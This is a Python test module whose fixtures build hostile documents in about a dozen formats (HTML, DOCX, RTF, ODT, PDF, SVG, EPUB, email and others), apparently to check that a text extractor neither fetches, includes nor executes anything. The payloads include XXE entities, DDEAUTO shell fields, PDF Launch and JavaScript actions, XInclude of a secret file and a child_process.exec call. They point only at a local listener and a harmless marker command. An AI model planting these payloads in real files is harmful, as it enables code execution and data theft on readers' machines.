"""Files of every format that ask whoever opens them to run, fetch or include something.

What they ask for can be told: addresses lead to a listener that takes no call, commands would leave
a mark, and a file beside them holds a word that no article may come to hold.
"""

from __future__ import annotations

import email.message
import io
import plistlib
import socket
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pikepdf
import pytest
from reportlab.pdfgen.canvas import Canvas

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SENTENCE = "The union went home in the evening, and nobody at the harbor had asked it to stay on."
HIDDEN = "quicksilver-under-the-floor"
"""What the file beside the hostile ones holds."""


@dataclass(frozen=True)
class Lure:
    """What hostile files point at.

    Attributes:
        web: where a call would be heard.
        secret: the address of a file that no article may take in.
        mark: the file that a command would leave.
        listener: hears the calls.
    """

    web: str
    secret: Path
    mark: Path
    listener: socket.socket

    @property
    def command(self) -> str:
        """A command that leaves the mark."""
        return f"touch {self.mark}"

    def called(self) -> bool:
        """Return whether anything was fetched."""
        try:
            self.listener.accept()[0].close()
        except BlockingIOError:
            return False
        return True


@pytest.fixture
def lure(tmp_path: Path) -> Iterator[Lure]:
    """Yield what the hostile files point at, with nothing taken yet."""
    secret = tmp_path / "secret.txt"
    secret.write_text(HIDDEN, "utf-8")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        web = f"http://127.0.0.1:{listener.getsockname()[1]}"
        yield Lure(web, secret, tmp_path / "mark", listener)


@pytest.fixture
def hostile(tmp_path: Path, lure: Lure) -> Path:
    """A folder with a hostile file of every format that is read."""
    folder = tmp_path / "hostile"
    folder.mkdir()
    for name, make in _MADE.items():
        (folder / name).write_bytes(make(lure))
    return folder


def _page(lure: Lure) -> bytes:
    web, secret = lure.web, lure.secret.as_uri()
    return f"""<!DOCTYPE html>
<html manifest="{web}/manifest"><head><title>The harbor stopped</title>
<base href="{web}/base/"><meta http-equiv="refresh" content="0; url={web}/refresh">
<link rel="stylesheet" href="{web}/style.css"><link rel="preload" as="script" href="{web}/p.js">
<link rel="dns-prefetch" href="//nowhere.invalid"><link rel="icon" href="{web}/icon.png">
<link rel="canonical" href="{web}/canonical"><meta property="og:image" content="{web}/og.png">
<style>@import url("{web}/import.css"); body {{ background: url({web}/back.png) }}</style>
<script src="{web}/script.js"></script><script>fetch("{web}/fetch"); new Image().src="{web}/i"
require("child_process").exec("{lure.command}")</script>
<script type="application/ld+json">{{"@context": "{web}/context", "@type": "NewsArticle",
"headline": "The harbor stopped", "image": "{web}/ld.png", "author": {{"@id": "{web}/who"}}}}
</script></head>
<body onload="fetch('{web}/onload')"><article><h1>The harbor stopped</h1>
<p>{SENTENCE} {SENTENCE}</p><img src="{web}/picture.png" srcset="{web}/x2.png 2x" onerror="f()">
<picture><source srcset="{web}/source.webp"><img src="//nowhere.invalid/pixel.gif"></picture>
<p>{SENTENCE} It was said so again.</p><iframe src="{web}/frame"></iframe>
<iframe src="{secret}"></iframe><object data="{secret}"></object><embed src="{web}/embed.swf">
<video src="{web}/film.mp4" poster="{web}/poster.png" autoplay></video>
<audio src="{web}/sound.mp3" autoplay></audio><form action="{web}/form"><input autofocus></form>
<svg><script href="{web}/svg.js"></script><image href="{web}/svg.png"/></svg>
<p>{SENTENCE} It was the third time.</p></article></body></html>""".encode()


def _xml(lure: Lure) -> str:
    """Return a prologue whose entities ask for a page and for a file."""
    return (
        f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "{lure.web}/remote.dtd"> %remote;'
        f'<!ENTITY secret SYSTEM "{lure.secret.as_uri()}">'
        f'<!ENTITY page SYSTEM "{lure.web}/entity">]>'
    )


def _svg(lure: Lure) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{lure.web}/style.css"?>{_xml(lure)}'
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{lure.web}/svg\')">'
        f'<image href="{lure.web}/picture.png"/><use href="{lure.web}/use.svg#a"/>'
        f"<text>{SENTENCE} &secret; &page;</text></svg>"
    ).encode()


def _xhtml(lure: Lure) -> bytes:
    return (
        f'<?xml version="1.0"?>{_xml(lure)}<html xmlns="http://www.w3.org/1999/xhtml">'
        f'<head><title>T</title></head><body xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="{lure.secret.as_uri()}" parse="text"/>'
        f"<p>{SENTENCE} {SENTENCE} &secret; &page;</p></body></html>"
    ).encode()


def _mhtml(lure: Lure) -> bytes:
    message = email.message.EmailMessage()
    message["Subject"] = "The harbor stopped"
    message["Snapshot-Content-Location"] = f"{lure.web}/snapshot"
    message.set_content(_page(lure).decode(), subtype="html")
    message.make_related()
    message.add_related(b"fetch()", "text", "javascript", headers=[f"Content-Location: {lure.web}"])
    return message.as_bytes()


def _webarchive(lure: Lure) -> bytes:
    main = {
        "WebResourceData": _page(lure),
        "WebResourceMIMEType": "text/html",
        "WebResourceTextEncodingName": "UTF-8",
        "WebResourceURL": f"{lure.web}/archived",
    }
    frame = {"WebMainResource": main | {"WebResourceURL": lure.secret.as_uri()}}
    return plistlib.dumps(
        {"WebMainResource": main, "WebSubframeArchives": [frame]}, fmt=plistlib.FMT_BINARY
    )


def _mail(lure: Lure) -> bytes:
    message = email.message.EmailMessage()
    message["From"] = "Ada Field <ada@nowhere.invalid>"
    message["Subject"] = "The harbor stopped"
    message["Disposition-Notification-To"] = "ada@nowhere.invalid"
    message["List-Unsubscribe"] = f"<{lure.web}/unsubscribe>"
    message.set_content(f'<img src="{lure.web}/pixel.gif">{_page(lure).decode()}', subtype="html")
    message.add_attachment(
        b"", "message", "external-body", params={"access-type": "URL", "URL": f"{lure.web}/body"}
    )
    return message.as_bytes()


def _markdown(lure: Lure) -> bytes:
    return (
        f"---\ntitle: The harbor stopped\nbibliography: {lure.secret}\ncsl: {lure.web}/style.csl\n"
        f"header-includes: '\\input{{{lure.secret}}}'\n---\n\n# The harbor stopped\n\n"
        f"{SENTENCE} [a link]({lure.web}/link) ![a picture]({lure.web}/picture.png)\n\n"
        f"![here]({lure.secret})\n\n{SENTENCE}\n\n<img src='{lure.web}/raw.png'>"
        f"<script src='{lure.web}/raw.js'></script>\n\n"
        f"```{{.include}}\n{lure.secret}\n```\n\n.. include:: {lure.secret}\n"
    ).encode()


def _rtf(lure: Lure) -> bytes:
    def field(words: str) -> str:
        return rf"{{\field{{\*\fldinst {words}}}{{\fldrslt shown}}}}"

    words = "".join(
        field(each)
        for each in (
            f'INCLUDEPICTURE "{lure.web}/picture.png" \\\\d',
            f'INCLUDETEXT "{lure.secret}"',
            f'DDEAUTO sh "-c \\"{lure.command}\\""',
            f'HYPERLINK "{lure.web}/link"',
        )
    )
    styles = rf"{{\*\template {lure.web}/template.dotx}}"
    return rf"{{\rtf1\ansi {styles}\pard {SENTENCE} {SENTENCE} {words}\par}}".encode("ascii")


def _zipped(parts: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return packed.getvalue()


_OFFICE = "http://schemas.openxmlformats.org"
_TYPES = f"{_OFFICE}/package/2006/content-types"
_RELATIONS = f"{_OFFICE}/package/2006/relationships"
_KINDS = f"{_OFFICE}/officeDocument/2006/relationships"
_WORD = f"{_OFFICE}/wordprocessingml/2006/main"
_DRAWING = f"{_OFFICE}/drawingml/2006"


def _docx(lure: Lure) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    outside = "".join(
        f'<Relationship Id="r{n}" Type="{_KINDS}/{kind}" Target="{to}" TargetMode="External"/>'
        for n, (kind, to) in enumerate(
            (
                ("attachedTemplate", f"{lure.web}/template.dotm"),
                ("image", f"{lure.web}/picture.png"),
                ("image", lure.secret.as_uri()),
                ("hyperlink", f"{lure.web}/link"),
                ("oleObject", f"{lure.web}/ole"),
                ("aFChunk", lure.secret.as_uri()),
            )
        )
    )
    picture = f'<w:drawing><a:blip xmlns:a="{_DRAWING}/main" r:link="r1" r:embed="r2"/></w:drawing>'
    code = f'DDEAUTO sh "-c {lure.command}" INCLUDETEXT "{lure.secret}"'
    body = (
        f"<w:p><w:r><w:t>{SENTENCE} {SENTENCE}</w:t></w:r><w:r>{picture}</w:r></w:p>"
        f'<w:altChunk r:id="r5"/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
        f'<w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f'<w:hyperlink r:id="r3"><w:r><w:t>A link.</w:t></w:r></w:hyperlink></w:p>'
    )
    return _zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r" Type='
            f'"{_KINDS}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{outside}'
            "</Relationships>",
            "word/document.xml": f'<w:document xmlns:w="{_WORD}" xmlns:r="{_KINDS}">'
            f"<w:body>{body}</w:body></w:document>",
        }
    )


def _odt(lure: Lure) -> bytes:
    kind = "application/vnd.oasis.opendocument.text"
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (
            ("office", "office"), ("text", "text"), ("draw", "drawing"), ("script", "script"),
            ("manifest", "manifest"), ("style", "style"), ("fo", "xsl-fo-compatible"),
        )
    )  # fmt: skip
    names += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    run = f'<script:event-listener xlink:href="vnd.sun.star.script:{lure.command}"/>'
    body = (
        f"<text:p>{SENTENCE} {SENTENCE}</text:p>"
        f'<text:section><text:section-source xlink:href="{lure.secret.as_uri()}"/></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{lure.web}/picture.png"/></draw:frame>'
        f'<draw:frame><draw:object xlink:href="{lure.web}/object"/></draw:frame>'
        f'<text:a xlink:href="{lure.web}/link">A link.</text:a></text:p>'
    )
    return _zipped(
        {
            "mimetype": kind,
            "META-INF/manifest.xml": f"<manifest:manifest {names}><manifest:file-entry"
            f' manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>',
            "styles.xml": f"<office:document-styles {names}><office:font-face-decls/>"
            "<office:styles/><office:automatic-styles/><office:master-styles/>"
            "</office:document-styles>",
            "content.xml": f"<office:document-content {names}><office:scripts>{run}"
            f"</office:scripts><office:font-face-decls/><office:automatic-styles/><office:body><office:text>{body}</office:text></office:body>"
            "</office:document-content>",
        }
    )


def _epub(lure: Lure) -> bytes:
    return _zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container version="1.0"'
            ' xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile'
            ' full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles>'
            "</container>",
            "book.opf": '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata'
            ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>The harbor</dc:title>'
            f'<link rel="record" href="{lure.web}/record"/></metadata><manifest>'
            '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'
            f'<item id="b" href="{lure.web}/remote.xhtml" media-type="application/xhtml+xml"/>'
            f'</manifest><spine><itemref idref="a"/></spine></package>',
            "a.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title>'
            f'<link rel="stylesheet" href="{lure.web}/style.css"/>'
            f'<script src="{lure.web}/script.js"/></head><body><h1>The harbor</h1>'
            f'<p>{SENTENCE} {SENTENCE}</p><img src="{lure.web}/picture.png"/>'
            f'<iframe src="{lure.secret.as_uri()}"/></body></html>',
        }
    )


def _pdf(lure: Lure) -> bytes:
    drawn, packed = io.BytesIO(), io.BytesIO()
    canvas = Canvas(drawn)
    for line in range(6):
        canvas.drawString(72, 700 - 14 * line, SENTENCE)
    canvas.linkURL(f"{lure.web}/link", (72, 600, 500, 720))
    canvas.save()
    name, table = pikepdf.Name, pikepdf.Dictionary
    uri = table(S=name("/URI"), URI=f"{lure.web}/uri")
    launch = table(S=name("/Launch"), F=lure.command, Win=table(F="sh", P=lure.command), Next=uri)
    script = table(S=name("/JavaScript"), JS=f"app.launchURL('{lure.web}/js')", Next=launch)
    submit = table(S=name("/SubmitForm"), F=table(FS=name("/URL"), F=f"{lure.web}/submit"))
    there = table(S=name("/GoToR"), F=str(lure.secret), D=pikepdf.Array([0, name("/Fit")]))
    with pikepdf.open(drawn) as document:
        outside = document.make_stream(b"", F=table(FS=name("/URL"), F=f"{lure.web}/stream"))
        document.Root.OpenAction = script
        document.Root.AA = table(WC=submit, WP=there)
        document.pages[0].AA = table(O=launch, C=uri)
        document.pages[0].Resources.XObject = table(Im0=outside)
        document.save(packed)
    return packed.getvalue()


def _text(lure: Lure) -> bytes:
    return f"The harbor stopped\n\n{SENTENCE} {lure.web}/link {lure.secret}\n{SENTENCE}\n".encode()


_MADE: dict[str, Callable[[Lure], bytes]] = {
    "page.html": _page,
    "page.xhtml": _xhtml,
    "page.mhtml": _mhtml,
    "page.webarchive": _webarchive,
    "mail.eml": _mail,
    "word.docx": _docx,
    "text.odt": _odt,
    "book.epub": _epub,
    "text.rtf": _rtf,
    "text.md": _markdown,
    "paper.pdf": _pdf,
    "plain.txt": _text,
    "drawing.svg": _svg,
}
